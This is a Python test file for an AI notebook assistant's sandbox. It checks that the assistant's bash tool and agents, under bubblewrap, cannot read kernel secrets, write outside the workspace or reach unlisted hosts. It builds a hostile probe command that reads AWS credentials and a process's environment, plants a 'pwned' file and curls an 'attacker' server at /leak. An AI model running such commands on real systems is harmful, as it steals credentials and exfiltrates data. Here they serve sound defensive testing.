"""The sandbox in a real kernel: the assistant's `bash` under `c.FlueMagics.sandbox = "bwrap"`, and
an agent on `flue.kernel(sandbox="bwrap", allow_hosts=...)`, cannot read the kernel's secrets,
write outside the workspace or reach an unlisted host; `%flue status` says where commands run."""

from __future__ import annotations

import shutil
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from kernel_helpers import Kernel

from tests.bwrap import require_bwrap
from tests.runtime.test_contain import _Server

pytestmark = pytest.mark.kernel

SETUP = """
import os
from flue_nb.models import ScriptedModel, reply, tool_call
import flue_nb as flue

def last_result(model):
    return [m for m in model.requests[-1].messages if m.kind == "tool_result"][-1].content
"""


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Kernel, Path, Path, _Server, _Server]]:
    require_bwrap()
    root = tmp_path_factory.mktemp("jupyter")
    home = tmp_path_factory.mktemp("home")
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text("aws_secret_access_key = AKIA-KERNEL-SECRET\n")
    work = home / "work"
    work.mkdir()
    outside = Path(tempfile.mkdtemp(dir="/var/tmp", prefix="flue-outside-"))
    allowed, attacker = _Server(), _Server()
    # The kernel starts with a key in its environment, as a user's kernel often does.
    k = Kernel(root, work, HOME=str(home), FLUE_TEST_KEY="KERNEL-ENVIRON-SECRET")
    try:
        k.ok(SETUP)
        k.ok("%config FlueMagics.db = 'flue.sqlite'")
        yield k, work, outside, allowed, attacker
    finally:
        k.shutdown()
        allowed.close()
        attacker.close()
        shutil.rmtree(outside)


def _probe(outside: Path, attacker: _Server) -> str:
    return (
        "cat ~/.aws/credentials; cat /proc/$KERNEL_PID/environ; "
        f"echo x > {outside}/pwned; echo ok > made.txt; "
        f"curl -sS -m 10 http://127.0.0.1:{attacker.port}/leak; echo END"
    )


def test_the_assistants_bash_is_contained(env) -> None:
    kernel, work, outside, _, attacker = env
    command = _probe(outside, attacker).replace("$KERNEL_PID", "{os.getpid()}")
    kernel.ok(f"tm = ScriptedModel([reply('Looking.', tool_call('bash', command=f{command!r})), reply('done')])")
    kernel.ok("%config FlueMagics.sandbox = 'bwrap'")
    run = kernel.ok("%flue -c boxed -m tm look around")
    assert "[✓ completed]" in run.text()
    result = kernel.ok("print(last_result(tm))").stdout
    assert "END" in result  # the command ran to its end
    # (Tool results redact known secret values, so the environ's name is the evidence it was read.)
    assert "AKIA-KERNEL-SECRET" not in result and "FLUE_TEST_KEY" not in result
    assert (work / "made.txt").read_text() == "ok\n" and not (outside / "pwned").exists()
    assert attacker.paths == []
    status = kernel.ok("%flue -c boxed status").text()
    assert f"sandbox: bwrap (bubblewrap): writes only in {work}" in status and "no network" in status
    # The control: the same command with the sandbox off reads the secrets (the test has teeth).
    kernel.ok(f"tn = ScriptedModel([reply('Again.', tool_call('bash', command=f{command!r})), reply('done')])")
    kernel.ok("%config FlueMagics.sandbox = 'none'")
    kernel.ok("%flue -c open -m tn look around")
    open_result = kernel.ok("print(last_result(tn))").stdout
    assert "AKIA-KERNEL-SECRET" in open_result and "FLUE_TEST_KEY=" in open_result
    assert (outside / "pwned").exists() and attacker.paths == ["/leak"]
    (outside / "pwned").unlink()
    attacker.paths.clear()


def test_an_agent_on_flue_kernel_sandbox_bwrap_reaches_only_its_allowed_host(env) -> None:
    kernel, _, outside, allowed, attacker = env
    command = _probe(outside, attacker).replace("$KERNEL_PID", "{os.getpid()}")
    command += f"; curl -sS -m 10 http://127.0.0.1:{allowed.port}/ok"
    kernel.ok(
        f"ta = ScriptedModel([reply('Go.', tool_call('bash', command=f{command!r})), reply('done')])\n"
        "@flue.agent\n"
        "def fenced():\n"
        "    flue.use_model(ta)\n"
        f"    flue.use_sandbox(flue.kernel(sandbox='bwrap', allow_hosts=['127.0.0.1:{allowed.port}']))\n"
        "    return 'Work here.'\n"
    )
    kernel.ok("%flue -c fenced -a fenced go")
    result = kernel.ok("print(last_result(ta))").stdout
    assert "AKIA-KERNEL-SECRET" not in result and "FLUE_TEST_KEY" not in result
    assert "is not in allow_hosts" in result and "served /ok" in result
    assert attacker.paths == [] and allowed.paths == ["/ok"] and not (outside / "pwned").exists()
